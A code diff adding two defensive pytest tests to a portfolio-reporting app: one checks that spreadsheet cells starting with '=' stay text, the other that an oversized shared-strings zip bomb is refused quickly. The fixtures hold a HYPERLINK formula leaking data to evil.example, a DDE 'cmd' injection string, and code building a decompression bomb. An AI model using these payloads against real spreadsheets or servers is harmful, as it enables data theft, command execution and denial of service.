@@ -14,6 +14,7 @@ from __future__ import annotations
 
 import copy
 import datetime as dt
+import io
 import threading
 import time
 from decimal import Decimal
@@ -550,3 +551,45 @@ def test_a_save_and_a_submit_at_once_submit_what_was_tied_out(app, db, book, mon
     events = db.session.execute(select(GpPackageEvent.action).where(GpPackageEvent.package_id == package_id)
                                 .order_by(GpPackageEvent.id)).scalars().all()
     assert events == ["save", "save", "submit"]
+
+
+def test_a_packages_workbook_holds_text_never_a_formula(book):
+    """A GP's company name, notice number or narrative beginning with '=' is a string cell in
+    the workbook a fund manager downloads (it had been a live formula: a link that sends the
+    sheet's contents away, or a command), and reads back as typed."""
+    from openpyxl import load_workbook
+
+    content = clean_content()
+    content["holdings"][0]["name"] = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
+    content["notices"][0]["ref"] = "=cmd|' /C calc'!A0"
+    content["narrative"] = "=1+1"
+    data = workbook(content, investment_id="QY-SF1", quarter_end=Q4)
+    cells = [c for ws in load_workbook(io.BytesIO(data)).worksheets for row in ws.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    again, _investment, _quarter_end = read_workbook(data)
+    assert again["holdings"][0]["name"] == content["holdings"][0]["name"]
+    assert again["notices"][0]["ref"] == "=cmd|' /C calc'!A0" and again["narrative"] == "=1+1"
+
+
+def test_a_package_that_expands_to_a_bomb_is_refused_before_it_is_read(book):
+    """A filled template whose shared strings expand to 68 MB (4 million of them; 170 KB on the
+    wire) is refused from the zip's directory at once: openpyxl read the whole table before a
+    row was counted (35 s and 110 MB a request, found by a probe)."""
+    import zipfile
+
+    from portfolio.errors import FieldErrors
+
+    data = workbook(clean_content(), investment_id="QY-SF1", quarter_end=Q4)
+    strings = b"<si><t>x</t></si>" * 4_000_000
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(data)) as z, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as bomb:
+        for item in z.infolist():
+            bomb.writestr(item, z.read(item))
+        bomb.writestr("xl/sharedStrings.xml", b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/'
+                                              b'main">' + strings + b"</sst>")
+    assert len(out.getvalue()) < 8 * 1024 * 1024  # within the upload's size limit
+    start = time.perf_counter()
+    with pytest.raises(FieldErrors) as refused:
+        read_workbook(out.getvalue())
+    assert time.perf_counter() - start < 1
+    assert [(field, m.key) for field, m in refused.value.errors] == [("file", "book_too_large")]
